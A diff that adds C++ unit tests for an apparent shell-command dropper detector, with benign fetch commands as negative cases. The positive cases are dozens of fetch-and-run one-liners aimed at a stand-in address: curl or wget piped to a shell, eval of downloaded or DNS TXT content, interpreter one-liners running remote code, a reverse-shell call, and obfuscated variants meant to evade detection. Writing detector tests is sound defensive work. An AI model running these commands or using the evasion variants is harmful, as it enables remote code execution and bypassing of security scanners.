@@ -108,6 +108,63 @@ TEST(Dropper, FetchedAndRun) {
                                   {"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a | tee /tmp/log | sh"}});
 }
 
+TEST(Dropper, StagesInEveryShape) {
+  expect_found(dropper_detector,
+               {{"dropper.fetch-and-run-address", "x=$(curl -s http://203.0.113.7/a); eval \"$x\""},
+                {"dropper.fetch-and-run-address", "x=`wget -qO- http://203.0.113.7/a`; sh -c \"$x\""},
+                {"dropper.fetch-and-run-address", "x=$(curl -s http://203.0.113.7/a); echo \"${x}\" | bash"},
+                {"dropper.fetch-and-run-address", "x=$(curl -s http://203.0.113.7/a); bash <<< \"$x\""},
+                {"dropper.fetch-and-run-address", "bash <<< $(curl -s http://203.0.113.7/a)"},
+                {"dropper.fetch-and-run-address", "source <(curl -s http://203.0.113.7/a)"},
+                {"dropper.fetch-and-run-address", ". <(curl -s http://203.0.113.7/a | base64 -d)"},
+                {"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a | base64 -d | gunzip | bash"},
+                {"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a | while read l; do eval \"$l\"; done"},
+                {"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a | while read l; do $l; done"},
+                {"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a | xargs -0 sh -c"},
+                {"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a | xargs -I{} bash -c {}"},
+                {"dropper.fetch-and-run-address", "{ curl -s http://203.0.113.7/a; echo exit; } | sh"},
+                {"dropper.fetch-and-run-address", "(curl -s http://203.0.113.7/a || wget -qO- http://203.0.113.7/a) | bash"},
+                {"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a | { sh; }"},
+                {"dropper.fetch-and-run-address", "if curl -s http://203.0.113.7/a; then :; fi | sh"},
+                {"dropper.fetch-and-run-address", "while :; do sh -c \"$(curl -s http://203.0.113.7/cmd)\"; sleep 60; done"},
+                {"dropper.fetch-and-run-address", "busybox wget -qO- http://203.0.113.7/a | busybox sh"},
+                {"dropper.fetch-and-run-address", "curl https://reverse-shell.sh/203.0.113.7:4444 | sh"},
+                {"dropper.fetch-and-run", "dig +short TXT cmd.example | tr -d '\"' | sh"},
+                {"dropper.fetch-and-run", "eval \"$(nslookup -q=txt cmd.example)\""},
+                {"dropper.interpreter-fetch", "python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.7/a').read())\""},
+                {"dropper.interpreter-fetch", "a='exec(u.urlop'; python3 -c \"import urllib.request as u;${a}en('http://203.0.113.7/a').read())\""},
+                {"dropper.interpreter-fetch", "php -r 'eval(file_get_contents(\"http://203.0.113.7/a\"));'"},
+                {"dropper.interpreter-fetch", "perl -MLWP::Simple -e 'eval get(\"http://203.0.113.7/a\")'"},
+                {"dropper.interpreter-fetch", "ruby -ropen-uri -e 'eval(open(\"http://203.0.113.7/a\").read)'"}});
+}
+
+TEST(Dropper, HidingDoesNotHelp) {
+  expect_found(dropper_detector,
+               {{"dropper.fetch-and-run-address", "/usr/?in/c?rl -s http://203.0.113.7/a | /b*/ba?h"},
+                {"dropper.fetch-and-run-address", "c=$(which curl || which wget); $c -s http://203.0.113.7/a | sh"},
+                {"dropper.fetch-and-run-address", "eval \"$(printf '\\x63url -s http://203.0.113.7/a | sh')\""},
+                {"dropper.fetch-and-run-address", "u=7.311.0.302; curl -s http://$(rev <<< $u)/a | sh"},
+                {"dropper.fetch-and-run-address", "set -- sh 203.0.113.7; curl http://$2/a | $1"},
+                {"dropper.fetch-and-run-address", "IFS=_; c=curl_-s_http://203.0.113.7/a; $c | bash"},
+                {"dropper.fetch-and-run-address", "curl -s http://203.0.113.7/a |\\\n  sh"},
+                {"dropper.fetch-and-run-address", "nohup sh -c 'curl -s http://0xcb007107/a | sh' &"},
+                {"dropper.decode-and-run", "eval \"$(echo bHMgLWxhIC90bXAvc29tZXRoaW5n | base64 -d)\""},
+                {"dropper.decode-and-run", "bash -c \"$(base64 -d <<< bHMgLWxhIC90bXAvc29tZXRoaW5n)\""},
+                {"dropper.decode-and-run", "bash <(echo bHMgLWxhIC90bXAvc29tZXRoaW5n | base64 -d)"},
+                {"dropper.decode-and-run", "echo gnihtemos/pmt/ al- sl | rev | sh"},
+                {"dropper.decode-and-run", "printf '\\x6c\\x73\\x20\\x2d\\x6c\\x61' | sh"},
+                {"dropper.decode-and-run", "echo 6c73202d6c61 | xxd -r -p | (sh)"}});
+}
+
+TEST(Dropper, FetchedDataIsNoProgram) {
+  expect_nothing(dropper_detector,
+                 {"v=$(curl -s https://host.example/latest); sh -c \"apt-get install x=$v\"", "v=$(curl -s https://host.example/latest); echo \"$v\" | grep 1",
+                  "v=$(curl -s https://host.example/latest); eval \"version=$v\"", "dig +short host.example | head -n 1", "dig TXT host.example | grep spf",
+                  "curl -s https://host.example/list | xargs -n1 sh -c 'echo checking $0 for errors'", "curl -s https://host.example/list | while read l; do echo $l; done",
+                  "curl -sf http://localhost/ready || exit 1; sh run.sh", "echo aGVsbG8= | base64 -d | cat", "printf 'a\\tb\\n' | sort", "x=$(echo aGVsbG8= | base64 -d)",
+                  "python3 -c \"import urllib.request as u; print(u.urlopen('http://localhost/health').status)\""});
+}
+
 TEST(Dropper, HonestFetchesAreLeftAlone) {
   expect_nothing(dropper_detector, {"curl -fsSL https://host.example/key.asc | gpg --dearmor > /usr/share/keyrings/x.gpg", "curl -s http://localhost/health | grep ok", "wget -q http://host.example/x.tar.gz && tar xf x.tar.gz",
                                     "curl -s https://host.example/a.json | python3 -m json.tool", "curl -s https://host.example/a.json | jq .", "curl -o x.sh https://host.example/x.sh; echo 'abc  x.sh' | sha256sum -c; sh x.sh",
